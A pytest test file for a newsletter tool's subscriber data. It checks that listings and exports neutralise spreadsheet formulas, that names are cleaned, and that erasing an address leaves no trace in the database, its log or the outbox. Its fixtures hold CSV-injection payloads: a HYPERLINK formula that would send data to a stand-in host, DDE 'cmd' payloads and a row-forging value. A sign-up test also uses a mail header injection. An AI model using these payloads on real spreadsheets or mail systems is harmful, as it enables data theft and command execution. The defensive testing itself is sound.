"""Subscriber data that holds up: spreadsheet-safe listings and exports, names cleaned on
the way in, and an erasure that leaves nothing of the address in the data folder."""

from __future__ import annotations

import base64
import csv
import io
import sqlite3
import threading
from collections.abc import Callable
from pathlib import Path

import pytest

from site_builder.subscribers import signups
from site_builder.subscribers.names import clean_name
from site_builder.subscribers.spreadsheet import safe_cell, write_table
from site_builder.subscribers.store import open_store

from .conftest import SAMPLE_NOW, Result, write
from .sending_fixtures import ISSUE, add_subscribers, data, newsletter_project

__all__ = ["data", "newsletter_project"]  # fixtures

FORMULAS = {
    "formule@example.org": '=HYPERLINK("https://kwaad.example/?d="&A2,"Klik")',
    "plus@example.org": "+31 6 12345678",
    "min@example.org": "-2+3+cmd|' /C calc'!A0",
    "apenstaart@example.org": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab@example.org": "Ann\tvervalst@example.org\tnl\nnep@example.org\t=1+1",
    "gewoon@example.org": "Gewone Naam",
}


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+31 6", "'+31 6"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'=1+1"), ("\r=1+1", "'=1+1"), (" =1+1", "'=1+1"), ("Ann\nde Wit", "Ann de Wit"),
    ("'t Hart", "'t Hart"), ("Jan-Willem", "Jan-Willem"), (None, ""),
])
def test_a_cell_is_one_line_and_never_a_formula(value: str | None, cell: str) -> None:
    assert safe_cell(value) == cell


def test_a_table_quotes_every_field() -> None:
    stream = io.StringIO()
    write_table(stream, ["email", "name"], [["a@example.org", 'Ann "A" de Wit']])
    assert stream.getvalue() == '"email","name"\r\n"a@example.org","Ann ""A"" de Wit"\r\n'


@pytest.mark.parametrize(("typed", "kept"), [
    ("Ann\tde\r\nWit", "Ann de Wit"),
    ("  Jan   Smit  ", "Jan Smit"),
    ("Eve\u202egnp.exe", "Evegnp.exe"),  # a right-to-left override, invisible: gone
    ("Zero\u200bWidth\x00Nul\x07Bell", "ZeroWidthNulBell"),
    ("Zoë de Wit", "Zoë de Wit"),
    ("x" * 3000, "x" * 100),
    ("\t\r\n", None),
])
def test_a_name_is_one_line_of_visible_text_of_at_most_100_characters(
        typed: str, kept: str | None) -> None:
    assert clean_name(typed) == kept


def import_formulas(tmp_path: Path, run: Callable[..., Result]) -> None:
    rows = "".join('{},"{}"\n'.format(a, n.replace('"', '""')) for a, n in FORMULAS.items())
    write(tmp_path / "people.csv", "email,name\n" + rows)
    assert run(tmp_path, "subscribers", "import", "people.csv", "--list", "external").code == 0


def assert_safe(rows: list[list[str]]) -> None:
    header, *people = rows
    assert header == ["email", "name", "language", "status", "consent_at", "consent_source"]
    assert sorted(row[0] for row in people) == sorted(FORMULAS)  # no forged row
    for row in people:
        assert len(row) == len(header)
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
        assert not any("\t" in cell or "\n" in cell for cell in row), row
    names = {row[0]: row[1] for row in people}
    assert names["formule@example.org"] == "'" + FORMULAS["formule@example.org"]
    assert names["tab@example.org"] == "Ann vervalst@example.org nl nep@example.org =1+1"
    assert names["gewoon@example.org"] == "Gewone Naam"


def test_list_prints_formula_and_tab_names_as_quoted_safe_cells(
    data: Path, tmp_path: Path, run: Callable[..., Result]
) -> None:
    import_formulas(tmp_path, run)
    result = run(tmp_path, "subscribers", "list", "--list", "external")
    assert result.code == 0
    lines = result.out.splitlines()
    assert len(lines) == len(FORMULAS) + 1
    assert all(line.startswith('"') and line.endswith('"') for line in lines)
    assert_safe(list(csv.reader(io.StringIO(result.out), delimiter="\t")))


def test_export_of_a_whole_list_as_csv_is_spreadsheet_safe_and_imports_back_unchanged(
    data: Path, tmp_path: Path, run: Callable[..., Result]
) -> None:
    import_formulas(tmp_path, run)
    printed = run(tmp_path, "subscribers", "export", "--list", "external", "--csv")
    assert printed.code == 0
    assert_safe(list(csv.reader(io.StringIO(printed.out))))
    saved = run(tmp_path, "subscribers", "export", "--list", "external", "--csv", "--out",
                "lijst.csv")
    assert saved.code == 0 and "Exported 6 subscriber(s)" in saved.out
    target = tmp_path / "lijst.csv"
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")  # so Excel reads UTF-8
    assert target.stat().st_mode & 0o077 == 0  # personal data: the owner's only
    # Into another list and out again: the names are what they were.
    assert run(tmp_path, "subscribers", "import", "lijst.csv", "--list", "internal").code == 0
    with open_store(data) as store:
        again = {m["email"]: m["name"] for m in store.members("internal")}
    assert again == {address: clean_name(name) for address, name in FORMULAS.items()}


@pytest.mark.parametrize(("args", "message"), [
    (("--list", "external"), "--list: error: a whole list is exported as a spreadsheet"),
    ((), "export: error: give one address"),
    (("ann@example.org", "--list", "external", "--csv"), "export: error: give one address"),
    (("ann@example.org", "--csv"), "--csv: error: --csv and --out go with --list NAME"),
])
def test_export_says_what_to_give(data: Path, tmp_path: Path, run: Callable[..., Result],
                                  args: tuple[str, ...], message: str) -> None:
    result = run(tmp_path, "subscribers", "export", *args)
    assert result.code == 1 and message in result.err


def traces(data: Path, address: str, name: str) -> list[str]:
    """Every file in the data folder that still holds the address, its name or the hash in
    its unsubscribe link, WAL and outbox included."""
    with open_store(data) as store:
        hashed = base64.urlsafe_b64encode(bytes.fromhex(store.hash(address))).rstrip(b"=")
    marks = (address.lower().encode(), name.encode(), name.encode("utf-16-le"), hashed)
    return [str(path.relative_to(data)) for path in sorted(data.rglob("*")) if path.is_file()
            and any(mark in path.read_bytes().lower() or mark in path.read_bytes()
                    for mark in marks)]


def sent_to_outbox(data: Path, project: Path, run: Callable[..., Result]) -> str:
    """Three subscribers, one issue sent to the outbox, and a test copy to the first."""
    people = add_subscribers(data, 3, prefix="wissen")
    address = next(iter(people))
    assert run(project, "newsletter", "send", ISSUE, "--list", "external").code == 0
    assert run(project, "newsletter", "send", ISSUE, "--to", address).code == 0
    assert len(list((data / "outbox").glob("*.eml"))) == 4
    return address


def test_remove_deletes_the_outbox_messages_and_leaves_nothing_in_the_data_folder(
    newsletter_project: Path, data: Path, run: Callable[..., Result]
) -> None:
    address = sent_to_outbox(data, newsletter_project, run)
    name = "Lezer Wissen 0"
    assert traces(data, address, name)  # the outbox and the store hold it now
    result = run(newsletter_project, "subscribers", "remove", address)
    assert result.code == 0, result.err
    assert "Erased everything stored about this address" in result.out
    assert "2 message file(s) in the outbox" in result.out
    assert traces(data, address, name) == []
    assert len(list((data / "outbox").glob("*.eml"))) == 2  # the others' messages stay


def test_remove_waits_for_a_reader_then_truncates_the_log(
    newsletter_project: Path, data: Path, run: Callable[..., Result]
) -> None:
    address = sent_to_outbox(data, newsletter_project, run)
    reader = sqlite3.connect(data / "subscribers.sqlite3", isolation_level=None,
                             check_same_thread=False)
    reader.execute("BEGIN")
    assert reader.execute("SELECT count(*) FROM subscribers").fetchone()[0] == 3
    finished = threading.Timer(1.0, lambda: reader.execute("COMMIT"))
    finished.start()
    try:
        result = run(newsletter_project, "subscribers", "remove", address, "--wait", "20")
    finally:
        finished.join()
        reader.close()
    assert result.code == 0, result.err
    assert traces(data, address, "Lezer Wissen 0") == []
    wal = data / "subscribers.sqlite3-wal"
    assert not wal.exists() or wal.stat().st_size == 0


def test_remove_says_plainly_when_a_reader_keeps_it_from_finishing_and_exits_3(
    newsletter_project: Path, data: Path, run: Callable[..., Result]
) -> None:
    address = sent_to_outbox(data, newsletter_project, run)
    reader = sqlite3.connect(data / "subscribers.sqlite3", isolation_level=None)
    reader.execute("BEGIN")
    reader.execute("SELECT count(*) FROM subscribers").fetchone()
    blocked = run(newsletter_project, "subscribers", "remove", address, "--wait", "0.3")
    reader.execute("COMMIT")
    reader.close()
    assert blocked.code == 3
    assert "Erased" not in blocked.out
    assert ("subscribers.sqlite3: error: the address is not completely erased yet: an older "
            "copy is still in the database's write-ahead log") in blocked.err
    assert "then run this command again" in blocked.err
    again = run(newsletter_project, "subscribers", "remove", address)
    assert again.code == 0, again.err
    assert traces(data, address, "Lezer Wissen 0") == []


def test_an_older_store_gets_clean_names_and_message_ids_without_an_address_hash(
    data: Path
) -> None:
    with open_store(data, migrate_to=2) as store:
        db = store.connection
        db.execute("INSERT INTO subscribers (address_hash, email, name, created_at, "
                   "updated_at) VALUES ('h1', 'ann@example.org', 'Ann\tde\r\nWit', 'x', 'x')")
        db.executemany(
            "INSERT INTO journal (issue, list_name, address_hash, message_id, state, "
            "updated_at) VALUES ('2026-11-extern', 'external', ?, ?, ?, 'x')",
            [("h1", "2026-11-extern.aaaaaaaaaaaaaaaaaaaa@zelfwijs.example", "queued"),
             ("h2", "2026-11-extern.bbbbbbbbbbbbbbbbbbbb@zelfwijs.example", "sent"),
             ("h3", "2026-11-extern.cccccccccccccccccccc@zelfwijs.example", "failed")])
    with open_store(data) as store:
        db = store.connection
        assert db.execute("SELECT name FROM subscribers").fetchone()[0] == "Ann de Wit"
        rows = dict(db.execute("SELECT state, message_id FROM journal"))
        failure = db.execute("SELECT failure FROM journal WHERE state = 'failed'").fetchone()
    assert rows["sent"] == "2026-11-extern.bbbbbbbbbbbbbbbbbbbb@zelfwijs.example"  # went out
    assert "aaaa" not in rows["queued"] and rows["queued"].endswith("@zelfwijs.example")
    assert failure[0] == "bounce"  # failures before version 3 were all hard bounces


def test_a_sign_up_name_is_cleaned_in_the_store_too(data: Path) -> None:
    with open_store(data) as store:
        token = signups.request_signup(store, "nieuw@example.org", "Nieuw\r\nBcc: x\t" + "n" * 300,
                                       "nl", "external", SAMPLE_NOW)
        assert token is not None
        signups.confirm_signup(store, token, SAMPLE_NOW)
        [member] = store.members("external")
    assert member["name"] == ("Nieuw Bcc: x " + "n" * 300)[:100]

